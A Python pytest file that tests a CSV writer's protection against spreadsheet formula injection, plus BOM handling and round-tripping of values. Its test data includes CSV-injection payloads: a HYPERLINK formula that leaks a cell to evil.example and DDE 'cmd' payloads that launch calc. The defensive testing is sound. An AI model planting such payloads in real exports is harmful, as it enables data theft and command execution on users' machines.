"""The one CSV writer: formula-looking text is neutralised, numbers are not, Excel gets a
BOM, and what we read back is what was written."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from worker.commands.sim_io import _records, write_decisions
from worker.exports import FORMULA_START, csv_bytes, restore_cell, safe_cell, write_csv
from worker.routing import Decision

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&E2,"Acme")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_text_that_could_start_a_formula_gets_a_leading_apostrophe(value: str) -> None:
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", [-3, -2.5, 0, None, "Müller GmbH", "a=b", " =1", "'quoted"])
def test_numbers_and_ordinary_text_are_left_alone(value: object) -> None:
    assert safe_cell(value) == value


@given(st.text())
def test_no_written_cell_starts_a_formula_and_reading_it_back_gives_the_text(text: str) -> None:
    cell = safe_cell(text)
    assert not cell.startswith(FORMULA_START)
    assert restore_cell(cell) == text


def test_csv_bytes_start_with_a_bom_and_keep_umlauts() -> None:
    data = csv_bytes(["company"], [{"company": "Müller"}, {"company": HOSTILE[0]}])
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows == [["company"], ["Müller"], ["'" + HOSTILE[0]]]


def test_simulate_out_csv_is_neutralised_and_has_a_bom(tmp_path: Path) -> None:
    out = tmp_path / "decisions.csv"
    decision = Decision(lead_id="00Q1", action="hold", owner_id=None, rep_key=None, pool=None,
                        rule="-cmd rule", method="hold", reason="=HYPERLINK(\"x\")")  # fmt: skip
    write_decisions(out, [decision])
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    row = next(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    assert (row["rule"], row["reason"]) == ("'-cmd rule", '\'=HYPERLINK("x")')


def test_a_csv_we_wrote_reads_back_as_the_original_values(tmp_path: Path) -> None:
    path = tmp_path / "leads.csv"
    leads = [{"Id": "00Q1", "Phone": "+1 555 0100", "Company": "Müller", "LastName": "-x"}]
    write_csv(path, list(leads[0]), leads)
    assert _records(path) == leads
